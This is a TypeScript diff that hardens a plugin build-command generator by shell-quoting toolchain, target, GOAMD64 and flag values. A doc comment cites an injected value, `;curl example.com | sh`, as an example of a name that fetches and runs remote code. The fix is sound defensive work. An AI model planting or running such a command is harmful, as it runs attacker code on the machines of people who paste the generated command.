@@ -1,4 +1,5 @@
 import type { BuildFacts } from '../manifest/buildFacts.js';
+import { releaseIn } from '../manifest/normalise.js';
 
 /**
  * The command that builds a plugin the way a host was built: its toolchain, microarchitecture level and flags.
@@ -6,19 +7,27 @@ import type { BuildFacts } from '../manifest/buildFacts.js';
  */
 export function buildCommand({ language, toolchain, goamd64, flags, target }: BuildFacts): string {
   if (language === 'rust') {
-    const release = /\d+\.\d+\.\d+/.exec(toolchain ?? '')?.[0];
-    return `cargo ${release ? `+${release} ` : ''}build --release${target ? ` --target ${target}` : ''}`;
+    const release = releaseIn(toolchain ?? '');
+    return `cargo ${release ? `+${release} ` : ''}build --release${target ? ` --target ${quoted(target)}` : ''}`;
   }
   const environment = [
-    toolchain?.startsWith('go') ? `GOTOOLCHAIN=${toolchain.split(/ |-X:/)[0]}` : null,
+    toolchain?.startsWith('go') ? `GOTOOLCHAIN=${quoted(toolchain.split(/ |-X:/)[0] ?? '')}` : null,
     // v1 is what go build does anyway.
-    goamd64 && goamd64 !== 'v1' ? `GOAMD64=${goamd64}` : null,
+    goamd64 && goamd64 !== 'v1' ? `GOAMD64=${quoted(goamd64)}` : null,
   ];
-  const words = [...(flags ?? [])].map(([name, value]) => (value === '' ? name : quoted(`${name}=${value}`)));
+  const words = [...(flags ?? [])].map(([name, value]) => quoted(value === '' ? name : `${name}=${value}`));
   return [...environment.filter((word) => word !== null), 'go build -buildmode=plugin', ...words.sort()].join(' ');
 }
 
-/** One word of a shell command. */
+/**
+ * One word of a shell command. Everything a file says goes through it on its way into a fix, which people paste: a module, a crate, a
+ * toolchain may be called `;curl example.com | sh`.
+ */
 export function quoted(word: string): string {
   return /^[\w@%+=:,./-]+$/.test(word) ? word : `'${word.replaceAll("'", `'\\''`)}'`;
+}
+
+/** The value of a variable: nothing where it is to be empty. */
+export function quotedValue(value: string): string {
+  return value === '' ? '' : quoted(value);
 }
